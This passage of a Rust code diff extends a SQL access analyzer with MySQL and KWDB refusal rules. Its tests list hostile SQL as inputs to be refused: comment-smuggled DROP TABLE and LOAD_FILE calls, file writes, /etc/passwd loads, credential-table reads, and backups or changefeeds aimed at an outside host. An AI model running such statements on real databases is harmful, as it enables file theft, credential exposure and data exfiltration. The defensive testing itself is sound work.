@@ -22,9 +22,9 @@ use sqlparser::ast::{
 use sqlparser::dialect::{Dialect, MySqlDialect, PostgreSqlDialect};
 use sqlparser::keywords::Keyword;
 use sqlparser::parser::Parser;
-use sqlparser::tokenizer::{Location, Token, TokenWithSpan, Tokenizer};
+use sqlparser::tokenizer::{Location, Token, TokenWithSpan, Tokenizer, Whitespace};
 
-use super::Engine;
+use super::{Engine, mysql_sql};
 use crate::audit::SqlAudit;
 use upshift_model::grants::Access;
 
@@ -106,9 +106,6 @@ pub const SQL_TEXT_FUNCTIONS: &[&str] = &[
     "pg_background_launch",
 ];
 
-/// MySQL / MariaDB functions that stall the server or read its files: refused on MySQL bindings.
-const MYSQL_FORBIDDEN_FUNCTIONS: &[&str] = &["sleep", "benchmark", "load_file", "get_lock"];
-
 /// PostgreSQL's identifier length: longer names are cut to this many bytes.
 const NAMEDATALEN: usize = 63;
 
@@ -147,6 +144,36 @@ pub enum SqlRefusal {
     /// A KWDB `EXPORT` / `IMPORT` whose path leaves the node's extern directory.
     #[error("{0}")]
     KwdbPath(String),
+    /// A MySQL executable comment or optimizer hint (`/*!`, `/*M!`, `/*+`), anywhere in the text.
+    #[error(
+        "MySQL executable comments and optimizer hints (`{0}…*/`) are refused on every grant: the server runs what is inside them, and the host's parser reads them as comments; write the SQL without them (choose a version-specific statement in the adapter from the detected server version), and pass text containing `{0}` as a parameter (`?`)"
+    )]
+    ExecutableComment(String),
+    /// Something refused on every grant, with why and what to do instead.
+    #[error("{what} is refused on every grant: {why}; {instead}")]
+    Refused {
+        /// What was refused.
+        what: String,
+        /// Why.
+        why: String,
+        /// What to do instead.
+        instead: String,
+    },
+    /// A MySQL name in a schema other than the bound database.
+    #[error(
+        "`{name}` is in schema `{schema}`, but the binding is for database `{database}`{}; a MySQL binding reaches only its own database (and `information_schema` for reads): name tables without a schema or with `{database}`, and bind another database separately in the fleet file if the adapter needs it",
+        if *read_only_here { " and this statement is not a read" } else { "" }
+    )]
+    OutsideSchema {
+        /// The name as written.
+        name: String,
+        /// The schema it names.
+        schema: String,
+        /// The bound database.
+        database: String,
+        /// `information_schema`, named by a statement that is not a read.
+        read_only_here: bool,
+    },
 }
 
 /// A function a statement names, resolved as the server resolves names: `U&` escapes decoded,
@@ -228,28 +255,49 @@ fn dialect(engine: Engine) -> &'static dyn Dialect {
 }
 
 /// Analyse one statement in the engine's dialect: its access, and the functions it names (each
-/// already checked against [`FORBIDDEN_FUNCTIONS`] and [`SQL_TEXT_FUNCTIONS`]).
+/// already checked against [`FORBIDDEN_FUNCTIONS`] and [`SQL_TEXT_FUNCTIONS`]). On MySQL no
+/// schema qualifier but `information_schema` is accepted: use [`analyze_bound`].
 pub fn analyze_for(engine: Engine, sql: &str) -> Result<Analysis, SqlRefusal> {
-    if engine == Engine::Kwdb
-        && let Some(kwdb_only) = super::kwdb::classify(sql)
-    {
-        return kwdb_only.map(|access| Analysis {
-            access,
-            functions: Vec::new(),
-        });
+    analyze_bound(engine, None, sql)
+}
+
+/// [`analyze_for`] for a binding of `database`: on MySQL / MariaDB the statement may name only
+/// that database (and `information_schema` for reads), and the dialect's own rules apply
+/// ([`super::mysql_sql`]). PostgreSQL and KWDB ignore `database`.
+pub fn analyze_bound(
+    engine: Engine,
+    database: Option<&str>,
+    sql: &str,
+) -> Result<Analysis, SqlRefusal> {
+    if engine == Engine::MySql {
+        return analyze_mysql(database, sql);
     }
     let (text, tokens) = resolved_tokens(engine, sql)?;
+    if engine == Engine::Kwdb {
+        super::kwdb::check_tokens(&tokens)?;
+    }
     // Names first, from the tokens: a refused function is named even where the parser fails.
-    let mut functions = token_functions(&tokens);
+    let mut functions = token_functions(engine, &tokens);
     for f in &functions {
         check_name(engine, &f.name)?;
+    }
+    if engine == Engine::Kwdb
+        && let Some(kwdb_only) = super::kwdb::classify_tokens(&tokens)
+    {
+        // The functions of a `SHOW` or an `EXPORT … FROM SELECT` were checked by name above;
+        // on a read grant the server is asked about their volatility too.
+        let mut functions: Vec<FunctionRef> =
+            functions.into_iter().filter(|f| !f.attribute).collect();
+        functions.sort();
+        functions.dedup();
+        return kwdb_only.map(|access| Analysis { access, functions });
     }
     let statements = Parser::parse_sql(dialect(engine), &text)
         .map_err(|e| SqlRefusal::Unparseable(e.to_string()))?;
     let [statement] = statements.as_slice() else {
         return Err(SqlRefusal::NotOneStatement(statements.len()));
     };
-    for f in ast_functions(statement) {
+    for f in ast_functions(engine, statement) {
         check_name(engine, &f.name)?;
         functions.push(f);
     }
@@ -259,11 +307,49 @@ pub fn analyze_for(engine: Engine, sql: &str) -> Result<Analysis, SqlRefusal> {
     Ok(Analysis { access, functions })
 }
 
+/// The MySQL / MariaDB analysis: raw text, tokens, then the parsed statement (see
+/// [`super::mysql_sql`]).
+fn analyze_mysql(database: Option<&str>, sql: &str) -> Result<Analysis, SqlRefusal> {
+    mysql_sql::check_raw(sql)?;
+    let (text, tokens) = resolved_tokens(Engine::MySql, sql)?;
+    mysql_sql::check_sql_mode_independent(&text, &tokens)?;
+    let facts = mysql_sql::check_tokens(&tokens)?;
+    // MySQL has no attribute notation: `t.sleep` is a column.
+    let mut functions: Vec<FunctionRef> = token_functions(Engine::MySql, &tokens)
+        .into_iter()
+        .filter(|f| !f.attribute)
+        .collect();
+    let mut writes_sequence = facts.writes_sequence;
+    for f in &functions {
+        check_name(Engine::MySql, &f.name)?;
+        writes_sequence |= mysql_sql::check_function(&f.name)?;
+    }
+    let statements = Parser::parse_sql(dialect(Engine::MySql), &text)
+        .map_err(|e| SqlRefusal::Unparseable(e.to_string()))?;
+    let [statement] = statements.as_slice() else {
+        return Err(SqlRefusal::NotOneStatement(statements.len()));
+    };
+    mysql_sql::check_statement(statement)?;
+    for f in ast_functions(Engine::MySql, statement) {
+        check_name(Engine::MySql, &f.name)?;
+        writes_sequence |= mysql_sql::check_function(&f.name)?;
+        functions.push(f);
+    }
+    functions.sort();
+    functions.dedup();
+    let mut access = statement_access(statement)?;
+    if writes_sequence && access == Access::Read {
+        access = Access::Write;
+    }
+    mysql_sql::check_scope(database, access, statement, &facts)?;
+    Ok(Analysis { access, functions })
+}
+
 /// The statement's fingerprint: literals removed, so `WHERE id = 1` and `WHERE id = 2` share
 /// one. A statement that does not tokenize gets one fingerprint for all such statements.
 pub fn fingerprint(engine: Engine, sql: &str) -> Fingerprint {
     let text = match resolved_tokens(engine, sql) {
-        Ok((_, tokens)) => normalise(&tokens),
+        Ok((_, tokens)) => normalise(engine, &tokens),
         Err(_) => "(not tokenizable)".to_string(),
     };
     let sha256 = hex::encode(Sha256::digest(text.as_bytes()));
@@ -272,9 +358,10 @@ pub fn fingerprint(engine: Engine, sql: &str) -> Fingerprint {
 
 /// Refuse `name` if it reaches outside the database or runs SQL text.
 fn check_name(engine: Engine, name: &str) -> Result<(), SqlRefusal> {
-    if FORBIDDEN_FUNCTIONS.contains(&name)
-        || (engine == Engine::MySql && MYSQL_FORBIDDEN_FUNCTIONS.contains(&name))
-    {
+    if engine == Engine::MySql {
+        mysql_sql::check_function(name)?;
+    }
+    if FORBIDDEN_FUNCTIONS.contains(&name) {
         return Err(SqlRefusal::ForbiddenFunction(name.to_string()));
     }
     if SQL_TEXT_FUNCTIONS.contains(&name) || name.starts_with("dblink") {
@@ -481,9 +568,12 @@ pub fn decode_unicode_ident(body: &str, escape: char) -> Result<String, SqlRefus
     Ok(out)
 }
 
-/// An identifier as the server resolves it: quoted as written, unquoted in (ASCII) lower case,
-/// both cut to 63 bytes.
-fn resolve(value: &str, quoted: bool) -> String {
+/// An identifier as the server resolves it. PostgreSQL: quoted as written, unquoted in (ASCII)
+/// lower case, both cut to 63 bytes. MySQL (function names are case-insensitive): in lower case.
+fn resolve(engine: Engine, value: &str, quoted: bool) -> String {
+    if engine == Engine::MySql {
+        return value.to_ascii_lowercase();
+    }
     let mut name = if quoted {
         value.to_string()
     } else {
@@ -513,29 +603,38 @@ fn function_ref(parts: Vec<String>, attribute: bool) -> Option<FunctionRef> {
 /// Every function call in the tokens — a name (`a.b.c`) followed by `(` — and every word after
 /// a `.` that is not a call (attribute notation). Whitespace and comments between the parts
 /// are skipped, as the server skips them. A word after `TABLESAMPLE` names a sampling method.
-fn token_functions(tokens: &[TokenWithSpan]) -> Vec<FunctionRef> {
+/// On MySQL a name is also a backquoted or double-quoted (`ANSI_QUOTES`) identifier
+/// ([`mysql_sql::name_token`]).
+fn token_functions(engine: Engine, tokens: &[TokenWithSpan]) -> Vec<FunctionRef> {
     let sig: Vec<&Token> = tokens
         .iter()
         .map(|t| &t.token)
         .filter(|t| !is_space(t))
         .collect();
+    fn name(engine: Engine, t: &Token) -> Option<(&str, bool)> {
+        match t {
+            _ if engine == Engine::MySql => mysql_sql::name_token(t),
+            Token::Word(w) => Some((w.value.as_str(), w.quote_style.is_some())),
+            _ => None,
+        }
+    }
     let mut out = Vec::new();
     let mut i = 0;
     while i < sig.len() {
-        let Token::Word(first) = sig[i] else {
+        let Some((first, quoted)) = name(engine, sig[i]) else {
             i += 1;
             continue;
         };
         let after_dot = i > 0 && matches!(sig[i - 1], Token::Period);
         let after_tablesample =
             i > 0 && matches!(sig[i - 1], Token::Word(w) if w.keyword == Keyword::TABLESAMPLE);
-        let mut parts = vec![resolve(&first.value, first.quote_style.is_some())];
+        let mut parts = vec![resolve(engine, first, quoted)];
         let mut j = i + 1;
         while j + 1 < sig.len()
             && matches!(sig[j], Token::Period)
-            && let Token::Word(w) = sig[j + 1]
+            && let Some((part, quoted)) = name(engine, sig[j + 1])
         {
-            parts.push(resolve(&w.value, w.quote_style.is_some()));
+            parts.push(resolve(engine, part, quoted));
             j += 2;
         }
         let call = matches!(sig.get(j), Some(Token::LParen));
@@ -560,27 +659,29 @@ fn token_functions(tokens: &[TokenWithSpan]) -> Vec<FunctionRef> {
     out
 }
 
-fn name_parts(name: &ObjectName) -> Vec<String> {
+fn name_parts(engine: Engine, name: &ObjectName) -> Vec<String> {
     name.0
         .iter()
         .map(|part| match part {
-            ObjectNamePart::Identifier(id) => resolve(&id.value, id.quote_style.is_some()),
-            ObjectNamePart::Function(f) => resolve(&f.name.value, f.name.quote_style.is_some()),
+            ObjectNamePart::Identifier(id) => resolve(engine, &id.value, id.quote_style.is_some()),
+            ObjectNamePart::Function(f) => {
+                resolve(engine, &f.name.value, f.name.quote_style.is_some())
+            }
         })
         .collect()
 }
 
 /// Collects the functions the parsed statement calls: expressions anywhere in it (subqueries,
 /// CTEs, DEFAULT / CHECK / GENERATED, index expressions, view bodies) and FROM-clause functions.
-#[derive(Default)]
-struct Functions(Vec<FunctionRef>);
+struct Functions(Engine, Vec<FunctionRef>);
 
 impl Visitor for Functions {
     type Break = ();
 
     fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
         if let Expr::Function(f) = expr {
-            self.0.extend(function_ref(name_parts(&f.name), false));
+            self.1
+                .extend(function_ref(name_parts(self.0, &f.name), false));
         }
         ControlFlow::Continue(())
     }
@@ -593,7 +694,7 @@ impl Visitor for Functions {
                 ..
             }
             | TableFactor::Function { name, .. } => {
-                self.0.extend(function_ref(name_parts(name), false));
+                self.1.extend(function_ref(name_parts(self.0, name), false));
             }
             _ => {}
         }
@@ -601,17 +702,28 @@ impl Visitor for Functions {
     }
 }
 
-fn ast_functions(statement: &Statement) -> Vec<FunctionRef> {
-    let mut found = Functions::default();
+fn ast_functions(engine: Engine, statement: &Statement) -> Vec<FunctionRef> {
+    let mut found = Functions(engine, Vec::new());
     let _ = statement.visit(&mut found);
-    found.0
+    found.1
 }
 
 /// The tokens without literals or comments, one space apart, unquoted words in lower case.
-fn normalise(tokens: &[TokenWithSpan]) -> String {
+/// On MySQL an executable comment or hint stays in the fingerprint as `/*!…*/` (its content
+/// may hold literals), so the audit shows what the server would have run something hidden.
+fn normalise(engine: Engine, tokens: &[TokenWithSpan]) -> String {
     let mut out: Vec<String> = Vec::new();
     for t in tokens {
         let piece = match &t.token {
+            Token::Whitespace(Whitespace::MultiLineComment(c))
+                if engine == Engine::MySql
+                    && (c.starts_with('!')
+                        || c.starts_with("M!")
+                        || c.starts_with("m!")
+                        || c.starts_with('+')) =>
+            {
+                "/*!…*/".to_string()
+            }
             Token::Whitespace(_) | Token::EOF => continue,
             Token::Word(w) => match w.quote_style {
                 None => w.value.to_ascii_lowercase(),
@@ -988,14 +1100,15 @@ mod tests {
             classify("SELEC nonsense"),
             Err(SqlRefusal::Unparseable(_))
         ));
-        assert_eq!(
-            classify_for(Engine::MySql, "SELECT SLEEP(10)"),
-            Err(SqlRefusal::ForbiddenFunction("sleep".into()))
-        );
-        assert_eq!(
-            classify_for(Engine::MySql, "SELECT BENCHMARK(1000000, md5('x'))"),
-            Err(SqlRefusal::ForbiddenFunction("benchmark".into()))
-        );
+        for sql in ["SELECT SLEEP(10)", "SELECT BENCHMARK(1000000, md5('x'))"] {
+            assert!(
+                matches!(
+                    classify_for(Engine::MySql, sql),
+                    Err(SqlRefusal::Refused { .. })
+                ),
+                "{sql}"
+            );
+        }
     }
 
     #[test]
@@ -1044,6 +1157,491 @@ mod tests {
         );
     }
 
+    fn mysql(sql: &str) -> Result<Access, SqlRefusal> {
+        analyze_bound(Engine::MySql, Some("app"), sql).map(|a| a.access)
+    }
+
+    fn refused_on_every_grant(sql: &str) -> bool {
+        matches!(
+            mysql(sql),
+            Err(SqlRefusal::ExecutableComment(_)
+                | SqlRefusal::Refused { .. }
+                | SqlRefusal::ForbiddenFunction(_)
+                | SqlRefusal::SqlTextFunction(_)
+                | SqlRefusal::Forbidden(_)
+                | SqlRefusal::Unparseable(_)
+                | SqlRefusal::OutsideSchema { .. })
+        )
+    }
+
+    #[test]
+    fn mysql_executable_comments_are_refused_wherever_they_hide() {
+        for sql in [
+            "/*!DROP TABLE IF EXISTS victim, `*/SELECT 1/*!`*/",
+            "SELECT 1 /*!, LOAD_FILE('/etc/hostname') */",
+            "SELECT * FROM t /*! INTO OUTFILE '/tmp/x' */",
+            "SELECT * FROM t /*!50000 INTO OUTFILE '/tmp/x' */",
+            "SELECT * FROM t /*!99999 INTO OUTFILE '/tmp/x' */",
+            "SELECT 1 /*M!100000 , LOAD_FILE('/etc/hostname') */",
+            "SELECT 1 /*m!100000 , 2 */",
+            "/*!SET STATEMENT max_statement_time=0 FOR*/ SELECT SLEEP(330)",
+            "/*!CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW SET NEW.a = 1*/",
+            "SELECT (SELECT 1 /*!, 2 */) FROM t",
+            "SELECT /*+ SET_VAR(max_execution_time=0) */ 1",
+            "SELECT '/*!' AS x",
+            "SELECT \"/*!50000 x */\" FROM t",
+            "SELECT 1 # /*! hidden */\n",
+        ] {
+            assert!(
+                matches!(mysql(sql), Err(SqlRefusal::ExecutableComment(_))),
+                "{sql}: {:?}",
+                mysql(sql)
+            );
+        }
+        let message = mysql("SELECT 1 /*!, 2 */").err().map(|e| e.to_string());
+        assert!(
+            message
+                .as_deref()
+                .is_some_and(|m| m.contains("every grant") && m.contains("server runs")),
+            "{message:?}"
+        );
+    }
+
+    #[test]
+    fn mysql_comments_mean_what_they_mean_on_the_server() {
+        // `--` needs a following space in MySQL; a tab or newline also starts a comment there,
+        // but not in the tokenizer: refused rather than read differently.
+        for sql in [
+            "SELECT 1 --\t'\n, LOAD_FILE('/etc/hostname') -- '",
+            "SELECT 1 --\n, LOAD_FILE('/etc/hostname')",
+            "SELECT 1 --",
+        ] {
+            assert!(
+                matches!(mysql(sql), Err(SqlRefusal::Refused { .. })),
+                "{sql:?}: {:?}",
+                mysql(sql)
+            );
+        }
+        // Text after `-- ` and `#` up to the line end is a comment for both; the next line is not.
+        assert!(refused_on_every_grant(
+            "SELECT 1 -- x\n, LOAD_FILE('/etc/hostname')"
+        ));
+        assert!(refused_on_every_grant(
+            "SELECT 1 # x\n, LOAD_FILE('/etc/hostname')"
+        ));
+        assert_eq!(mysql("SELECT 1 -- LOAD_FILE('x')"), Ok(Access::Read));
+        assert_eq!(mysql("SELECT 1 # LOAD_FILE('x')"), Ok(Access::Read));
+        assert_eq!(mysql("SELECT 1 - -2"), Ok(Access::Read));
+        // Where a string ends must not depend on NO_BACKSLASH_ESCAPES.
+        for sql in [
+            "SELECT 'a\\', LOAD_FILE('/etc/hostname') -- '",
+            "SELECT 'a\\' ' , 1",
+            "SELECT \"a\\\", 1 -- \"",
+        ] {
+            assert!(
+                matches!(mysql(sql), Err(SqlRefusal::Refused { .. })),
+                "{sql:?}: {:?}",
+                mysql(sql)
+            );
+        }
+        assert_eq!(mysql("SELECT 'a\\\\b' FROM t"), Ok(Access::Read));
+    }
+
+    #[test]
+    fn mysql_function_names_are_normalised_before_every_check() {
+        for sql in [
+            "SELECT `load_file`('/etc/hostname')",
+            "SELECT `LOAD_FILE`('/etc/hostname')",
+            "SELECT Load_File('/etc/hostname')",
+            "SELECT \"load_file\"('/etc/hostname')",
+            "SELECT load_file /* x */ ('/etc/hostname')",
+            "SELECT `app`.`load_file`('/etc/hostname')",
+            "SELECT `app` . `load_file` ('/etc/hostname')",
+            "SELECT * FROM t WHERE id IN (SELECT LENGTH(load_file('/etc/hostname')))",
+            "SELECT SLEEP(330)",
+            "SELECT `sleep`(1)",
+            "SELECT BENCHMARK(1000000, MD5('x'))",
+            "SELECT GET_LOCK('x', 10)",
+            "SELECT release_lock('x')",
+            "SELECT RELEASE_ALL_LOCKS()",
+            "SELECT IS_FREE_LOCK('x')",
+            "SELECT `is_used_lock`('x')",
+            "SELECT MASTER_POS_WAIT('f', 4)",
+            "SELECT sys_exec('id')",
+            "SELECT LOAD_F\u{130}LE('/etc/hostname')",
+            "INSERT INTO t (a) VALUES (LOAD_FILE('/etc/hostname'))",
+            "CREATE TABLE t2 (a TEXT AS (LOAD_FILE('/etc/hostname')))",
+        ] {
+            let refusal = mysql(sql);
+            assert!(
+                matches!(
+                    refusal,
+                    Err(SqlRefusal::Refused { .. } | SqlRefusal::ForbiddenFunction(_))
+                ),
+                "{sql}: {refusal:?}"
+            );
+        }
+        // Columns may be called like functions; only calls are checked.
+        assert_eq!(
+            mysql("SELECT t.sleep, t.benchmark FROM t"),
+            Ok(Access::Read)
+        );
+        assert_eq!(
+            mysql("SELECT LOWER(`name`), NOW(), COUNT(*) FROM `t`"),
+            Ok(Access::Read)
+        );
+    }
+
+    #[test]
+    fn mysql_refuses_what_an_adapter_never_needs_on_every_grant() {
+        for sql in [
+            "SELECT * FROM t INTO OUTFILE '/tmp/x'",
+            "SELECT * INTO OUTFILE '/tmp/x' FROM t",
+            "SELECT * FROM t into dumpfile '/tmp/x'",
+            "SELECT 1 INTO @v",
+            "SELECT a FROM t INTO @`v`",
+            "SELECT @v := 42",
+            "SELECT @v",
+            "SELECT @'v'",
+            "SELECT @`v`",
+            "SET @v = 1",
+            "SET STATEMENT max_statement_time=0 FOR SELECT 1",
+            "set statement max_statement_time=0 for select 1",
+            "SET SESSION max_statement_time = 0",
+            "SET NAMES latin1",
+            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
+            "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",
+            "LOAD XML INFILE '/tmp/x.xml' INTO TABLE t",
+            "HANDLER t OPEN",
+            "HANDLER t READ FIRST",
+            "DO SLEEP(1)",
+            "DO 1",
+            "CALL p()",
+            "LOCK TABLES t WRITE",
+            "UNLOCK TABLES",
+            "USE other",
+            "USE app",
+            "PREPARE s FROM 'SELECT 1'",
+            "EXECUTE s",
+            "EXECUTE IMMEDIATE 'DROP TABLE t'",
+            "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW SET NEW.a = 1",
+            "CREATE DEFINER = `root`@`localhost` TRIGGER tr BEFORE INSERT ON t FOR EACH ROW SET NEW.a = 1",
+            "CREATE PROCEDURE p() SELECT 1",
+            "CREATE DEFINER=root@localhost PROCEDURE p() SELECT 1",
+            "CREATE FUNCTION f() RETURNS INT RETURN 1",
+            "CREATE AGGREGATE FUNCTION f() RETURNS INT BEGIN RETURN 1; END",
+            "CREATE EVENT e ON SCHEDULE EVERY 1 SECOND DO DELETE FROM t",
+            "CREATE OR REPLACE DEFINER = CURRENT_USER EVENT e ON SCHEDULE EVERY 1 SECOND DO DELETE FROM t",
+            "ALTER EVENT e DISABLE",
+            "DROP PROCEDURE p",
+            "DROP TRIGGER tr",
+            "CREATE DEFINER = `root`@`localhost` SQL SECURITY DEFINER VIEW v AS SELECT 1",
+            "CREATE ALGORITHM = MERGE DEFINER=root@localhost VIEW v AS SELECT 1",
+            "CREATE TABLE x (a INT) ENGINE=CONNECT TABLE_TYPE=DOS FILE_NAME='/etc/passwd'",
+            "CREATE TABLE x (a INT) ENGINE = FEDERATED CONNECTION='mysql://u@h/db/t'",
+            "CREATE TABLE x (a INT) engine spider",
+            "ALTER TABLE t ENGINE=CONNECT",
+            "CREATE TABLE x (a INT) DATA DIRECTORY = '/tmp'",
+            "CREATE TABLE x (a INT) INDEX DIRECTORY = '/tmp'",
+            "KILL QUERY 1",
+            "SHOW GRANTS",
+            "FLUSH PRIVILEGES",
+            "GRANT ALL ON *.* TO 'u'@'%'",
+            "CREATE USER 'u'@'%'",
+            "INSTALL SONAME 'ha_connect'",
+            "BEGIN NOT ATOMIC SELECT 1; END",
+            "BEGIN",
+            "COMMIT",
+            "XA START 'x'",
+            "SAVEPOINT s",
+            "SELECT * FROM information_schema.processlist",
+            "SELECT info FROM INFORMATION_SCHEMA.`PROCESSLIST`",
+            "CREATE TABLE x (a INT) ENGINE=MRG_MyISAM UNION=(t)",
+            "DESCRIBE t",
+            "ANALYZE SELECT * FROM t",
+            "SHOW PROCESSLIST",
+        ] {
+            assert!(refused_on_every_grant(sql), "{sql}: {:?}", mysql(sql));
+        }
+        // Each refusal says what and why, and what to do instead.
+        let text = |sql: &str| mysql(sql).err().map(|e| e.to_string()).unwrap_or_default();
+        assert!(text("SELECT @v := 42").contains("user variable `@v`"));
+        assert!(text("SELECT * FROM t INTO OUTFILE '/x'").contains("writes a file"));
+        assert!(
+            text("SET STATEMENT max_statement_time=0 FOR SELECT 1").contains("max_statement_time")
+        );
+        assert!(text("SELECT GET_LOCK('x', 1)").contains("get_lock"));
+        // System variables are readable.
+        assert_eq!(
+            mysql("SELECT @@version, @@session.sql_mode"),
+            Ok(Access::Read)
+        );
+    }
+
+    #[test]
+    fn mysql_ddl_needs_ddl_and_sequences_need_write() {
+        for sql in [
+            "CREATE TABLE x (a INT)",
+            "CREATE TEMPORARY TABLE x (a INT)",
+            "CREATE TABLE x (a INT) ENGINE=InnoDB",
+            "CREATE TABLE x (a INT) ENGINE = Aria",
+            "ALTER TABLE t ADD COLUMN b INT",
+            "DROP TABLE t",
+            "DROP TABLE IF EXISTS t",
+            "TRUNCATE TABLE t",
+            "CREATE INDEX i ON t (a)",
+            "CREATE VIEW v AS SELECT a FROM t",
+            "CREATE TABLE x AS SELECT * FROM t",
+        ] {
+            assert_eq!(mysql(sql), Ok(Access::Ddl), "{sql}");
+        }
+        for sql in [
+            "SELECT NEXTVAL(s)",
+            "SELECT nextval(`s`)",
+            "SELECT SETVAL(s, 10)",
+            "INSERT INTO t VALUES (1)",
+            "REPLACE INTO t VALUES (1)",
+            "UPDATE t SET a = 1",
+            "DELETE FROM t",
+            "SELECT * FROM t FOR UPDATE",
+        ] {
+            assert_eq!(mysql(sql), Ok(Access::Write), "{sql}");
+        }
+        assert_eq!(mysql("SELECT LASTVAL(s)"), Ok(Access::Read));
+        // The parser does not know `NEXT VALUE FOR`: refused, wherever the sequence is.
+        assert!(mysql("SELECT NEXT VALUE FOR s").is_err());
+        assert!(mysql("SELECT NEXT VALUE FOR other.s").is_err());
+    }
+
+    #[test]
+    fn mysql_statements_stay_in_the_bound_schema() {
+        let outside = |sql: &str| match mysql(sql) {
+            Err(SqlRefusal::OutsideSchema { schema, .. }) => Some(schema),
+            _ => None,
+        };
+        for (sql, schema) in [
+            ("SELECT * FROM other.secret", "other"),
+            ("SELECT * FROM `other`.`secret`", "other"),
+            ("SELECT * FROM `other` . `secret`", "other"),
+            ("SELECT * FROM other /* x */ . secret", "other"),
+            ("SELECT * FROM \"other\".\"secret\"", "other"),
+            (
+                "SELECT user, authentication_string FROM mysql.user",
+                "mysql",
+            ),
+            ("SELECT * FROM MYSQL.user", "MYSQL"),
+            (
+                "SELECT * FROM performance_schema.threads",
+                "performance_schema",
+            ),
+            ("SELECT * FROM sys.processlist", "sys"),
+            (
+                "SELECT * FROM t JOIN other.secret s ON s.id = t.id",
+                "other",
+            ),
+            (
+                "SELECT * FROM t WHERE id IN (SELECT id FROM other.secret)",
+                "other",
+            ),
+            ("SELECT other.secret.x FROM t", "other"),
+            ("SELECT (SELECT x FROM other.secret LIMIT 1)", "other"),
+            (
+                "WITH c AS (SELECT * FROM other.secret) SELECT * FROM c",
+                "other",
+            ),
+            ("SELECT * FROM t AS other, other.secret", "other"),
+            ("SELECT other.f(1)", "other"),
+            ("SELECT NEXTVAL(other.s)", "other"),
+            ("INSERT INTO other.secret VALUES (1)", "other"),
+            ("INSERT INTO t SELECT * FROM other.secret", "other"),
+            ("UPDATE other.secret SET a = 1", "other"),
+            ("DELETE FROM other.secret", "other"),
+            ("DROP TABLE other.secret", "other"),
+            ("CREATE TABLE other.x (a INT)", "other"),
+            ("CREATE TABLE x LIKE other.secret", "other"),
+            ("ALTER TABLE t RENAME TO other.t", "other"),
+            ("CREATE VIEW v AS SELECT * FROM other.secret", "other"),
+            ("TRUNCATE TABLE other.secret", "other"),
+            (
+                "INSERT INTO t SELECT * FROM information_schema.tables",
+                "information_schema",
+            ),
+            ("SELECT * FROM App.t", "App"),
+            // A table or alias named like the schema does not make `other.x` a column.
+            ("CREATE TABLE other LIKE other.secret", "other"),
+            ("ALTER TABLE other RENAME TO other.t", "other"),
+            ("INSERT INTO other.secret SELECT * FROM t AS other", "other"),
+            ("CREATE TABLE other.x AS SELECT * FROM t AS other", "other"),
+            ("CREATE VIEW other.v AS SELECT * FROM t AS other", "other"),
+            ("CREATE INDEX i ON other.secret (a)", "other"),
+            (
+                "DELETE FROM other.secret USING other.secret, t AS other",
+                "other",
+            ),
+            (
+                "UPDATE other.secret AS s JOIN t AS other ON s.id = other.id SET s.a = 1",
+                "other",
+            ),
+            (
+                "SELECT * FROM t AS other WHERE a IN (SELECT a FROM other.secret)",
+                "other",
+            ),
+            ("SELECT other.f(1) FROM t AS other", "other"),
+            ("SELECT NEXTVAL(other.s) FROM t AS other", "other"),
+            ("SELECT * FROM `1other`.secret", "1other"),
+            ("SELECT * FROM 1other.secret", "1other"),
+        ] {
+            assert_eq!(
+                outside(sql).as_deref(),
+                Some(schema),
+                "{sql}: {:?}",
+                mysql(sql)
+            );
+        }
+        let message = mysql("SELECT * FROM mysql.user")
+            .err()
+            .map(|e| e.to_string());
+        assert!(
+            message.as_deref().is_some_and(|m| m.contains("`mysql`")
+                && m.contains("database `app`")
+                && m.contains("fleet file")),
+            "{message:?}"
+        );
+        for sql in [
+            "SELECT * FROM t",
+            "SELECT * FROM app.t",
+            "SELECT * FROM `app`.`t`",
+            "SELECT t.a, s.b FROM t JOIN u AS s ON s.id = t.id",
+            "SELECT app.t.a FROM app.t",
+            "SELECT x.a FROM (SELECT 1 AS a) AS x",
+            "WITH c AS (SELECT 1 AS a) SELECT c.a FROM c",
+            "SELECT table_name FROM information_schema.tables WHERE table_schema = DATABASE()",
+            "SELECT * FROM INFORMATION_SCHEMA.COLUMNS",
+            "SELECT @@session.time_zone",
+        ] {
+            assert_eq!(mysql(sql), Ok(Access::Read), "{sql}");
+        }
+        // The parser does not know multi-table UPDATE lists: refused.
+        assert!(mysql("UPDATE other.secret, t AS other SET other.a = 1").is_err());
+        // Without a bound database, nothing but information_schema may be named.
+        assert!(matches!(
+            analyze_for(Engine::MySql, "SELECT * FROM app.t"),
+            Err(SqlRefusal::OutsideSchema { .. })
+        ));
+    }
+
+    fn kwdb(sql: &str) -> Result<Access, SqlRefusal> {
+        analyze_for(Engine::Kwdb, sql).map(|a| a.access)
+    }
+
+    #[test]
+    fn kwdb_dialect_refusals() {
+        for sql in [
+            "SET CLUSTER SETTING server.time_until_store_dead = '1m'",
+            "set cluster setting kv.rangefeed.enabled = true",
+            "SET my.custom_setting = 'x'",
+            "SET application_name = 'x'",
+            "RESET ALL",
+            "CANCEL QUERY '1'",
+            "CANCEL SESSION '1'",
+            "CANCEL JOBS (SELECT job_id FROM [SHOW JOBS])",
+            "PAUSE JOB 1",
+            "RESUME JOB 1",
+            "BACKUP DATABASE shop TO 'http://10.0.0.9/x'",
+            "RESTORE DATABASE shop FROM 'nodelocal://2/x'",
+            "CREATE CHANGEFEED FOR TABLE t INTO 'kafka://10.0.0.9:9092'",
+            "EXPERIMENTAL CHANGEFEED FOR t",
+            "SELECT * FROM t AS OF SYSTEM TIME '-1h'",
+            "SELECT * FROM t AS OF SYSTEM TIME follower_read_timestamp()",
+            "SELECT * FROM [DELETE FROM t RETURNING id]",
+            "SELECT * FROM [ SHOW JOBS ]",
+            "SELECT * FROM [53 AS t]",
+            "SELECT crdb_internal.force_panic('x')",
+            "SELECT CRDB_INTERNAL.unsafe_upsert_descriptor(1, 'x')",
+            "SELECT kwdb_internal.set_vmodule('x')",
+            "SELECT \"crdb_internal\".\"force_error\"('x', 'y')",
+            "SELECT * FROM crdb_internal.cluster_queries",
+            "SELECT * FROM shop.crdb_internal.node_sessions",
+            "SELECT * FROM kwdb_internal.cluster_settings",
+            "SELECT username, \"hashedPassword\" FROM system.users",
+            "SELECT * FROM system.public.settings",
+            "SHOW QUERIES",
+            "SHOW CLUSTER SESSIONS",
+            "SHOW STATEMENTS",
+            "SHOW TRACE FOR SESSION",
